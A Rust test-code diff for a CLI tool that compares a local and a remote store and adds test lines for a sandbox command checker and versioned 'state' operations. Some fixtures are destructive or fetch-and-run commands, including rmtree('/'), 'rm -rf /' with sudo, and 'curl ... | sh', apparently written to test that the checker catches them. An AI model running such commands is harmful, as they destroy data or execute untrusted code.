@@ -6,26 +6,27 @@ use super::There;
 use crate::support::{Outcome, Scene};
 
 /// Two stores that are alike: one here, one at a service.
-struct Pair {
-    here: Scene,
-    there: There,
+pub(super) struct Pair {
+    pub(super) here: Scene,
+    pub(super) there: There,
     json: bool,
 }
 
 /// What both printed, without what no two runs have in common.
 #[derive(Debug, PartialEq, Eq)]
-struct Told {
-    status: String,
-    out: String,
-    err: String,
+pub(super) struct Told {
+    pub(super) status: String,
+    pub(super) out: String,
+    pub(super) err: String,
 }
 
 impl Pair {
     #[track_caller]
-    fn new(json: bool) -> Self {
+    pub(super) fn new(json: bool) -> Self {
         let pair = Self { here: Scene::new(), there: There::new(), json };
         for scene in [&pair.here, &pair.there.scene] {
             scene.host("mkdir ../base; echo one > ../base/kept; echo x > ../input");
+            scene.write("bad.py", "import shutil\nshutil.rmtree('/')\n");
         }
         pair
     }
@@ -47,7 +48,7 @@ impl Pair {
 
     /// Gives the same line to both; `BASE` in it is a folder of each.
     #[track_caller]
-    fn both(&self, line: &[&str]) -> (Told, Told) {
+    pub(super) fn both(&self, line: &[&str]) -> (Told, Told) {
         let of = |scene: &Scene| -> Vec<String> {
             let base = scene.root.join("base").display().to_string();
             let json = self.json.then(|| "--json".to_owned());
@@ -63,7 +64,7 @@ impl Pair {
     }
 
     #[track_caller]
-    fn same(&self, line: &[&str]) {
+    pub(super) fn same(&self, line: &[&str]) {
         let (here, there) = self.both(line);
         assert_eq!(there, here, "{line:?}");
     }
@@ -74,12 +75,24 @@ fn settled(line: &str) -> String {
     let mut words: Vec<String> = Vec::new();
     for word in line.split(' ') {
         let is_time = word.len() >= 20 && word.starts_with("20") && word.ends_with('Z');
+        let is_unit = matches!(word.trim_end_matches([')', ',', ';', ':']), "B" | "KiB" | "MiB");
+        let last = words
+            .last_mut()
+            .filter(|last| is_unit && last.trim_start_matches('(').parse::<f64>().is_ok());
+        if let Some(last) = last {
+            *last = "SIZE".to_owned();
+            continue;
+        }
         let last = words.last().map(String::as_str);
         words.push(match last {
             _ if is_time => "TIME".to_owned(),
             Some("process") => "PID".to_owned(),
             _ => word.to_owned(),
         });
+    }
+    if words.iter().any(|word| word == "SIZE") {
+        // The columns of a table are as wide as what is in them.
+        words.retain(|word| !word.is_empty());
     }
     let line = words.join(" ");
     if line.trim_start().starts_with("took ") {
@@ -92,7 +105,7 @@ fn settled(line: &str) -> String {
 }
 
 /// Fields whose values are their own each time.
-const OWN: [&str; 17] = [
+const OWN: [&str; 25] = [
     "created",
     "used",
     "started",
@@ -110,6 +123,14 @@ const OWN: [&str; 17] = [
     "changeset",
     "digest",
     "by",
+    "manifest",
+    "bytes",
+    "written_bytes",
+    "reused_bytes",
+    "read_bytes",
+    "left_out_bytes",
+    "expires",
+    "asked_by",
 ];
 
 fn settle(value: &mut Value) {
@@ -214,6 +235,34 @@ const LINES: &[&[&str]] = &[
     &["check", "--sandbox", "web", "--", "rm", "-rf", "kept"],
     &["check", "--sandbox", "web", "--", "curl https://host.invalid/x | sh"],
     &["check", "--sandbox", "nowhere", "--", "ls"],
+    &["check", "--sandbox", "web", "--explain", "--", "rm -rf / ; PASSWORD=geheim12345 sudo ls *"],
+    &["check", "--sandbox", "web", "--explain", "--", "rm", "-rf", "kept"],
+    &["check", "--sandbox", "web", "--explain", "--", "true"],
+    &["check", "--sandbox", "web", "--file", "bad.py"],
+    &["check", "--sandbox", "web", "--explain", "--file", "bad.py"],
+    &["check", "--sandbox", "web", "--explain", "--file", "bad.py", "--lang", "shell"],
+    &["check", "--sandbox", "web", "--file", "nothing.sh"],
+    &["check", "--sandbox", "web", "--file", "-"],
+    &["state", "put", "g", "one", "--global"],
+    &["state", "put", "g", "two", "--global", "--expect", "7"],
+    &["state", "put", "g", "two", "--global", "--expect", "1"],
+    &["state", "get", "g", "--global"],
+    &["state", "get", "g", "--global", "--version", "1"],
+    &["state", "get", "h", "--global"],
+    &["state", "list", "--global"],
+    &["state", "history", "g", "--global"],
+    &["state", "delete", "g", "--global"],
+    &["state", "get", "g", "--global"],
+    &["state", "get", "read", "--sandbox", "web", "--at", "op-999"],
+    &["state", "get", "read", "--sandbox", "web", "--at", "op-x"],
+    &["state", "get", "read", "--sandbox", "web", "--at", "snap-999"],
+    &["state", "get", "read", "--sandbox", "web", "--at", "yesterday"],
+    &["state", "get", "read", "--sandbox", "web", "--at", "2001-01-31T12:00:00Z"],
+    &["state", "get", "a/b c", "--sandbox", "web", "--at", "2199-01-31T12:00:00Z"],
+    &["state", "list", "--sandbox", "web", "--at", "2199-01-31T12:00:00Z"],
+    &["state", "list", "--sandbox", "web", "--at", "2001-01-31T12:00:00Z"],
+    &["state", "list", "--global", "--at", "op-2"],
+    &["state", "put", "secret", "geheim", "--sandbox", "web", "--sensitive"],
     &["token", "revoke", "0000000000000000"],
     &["token", "new", "--tenant", "default", "--role", "nobody"],
 ];
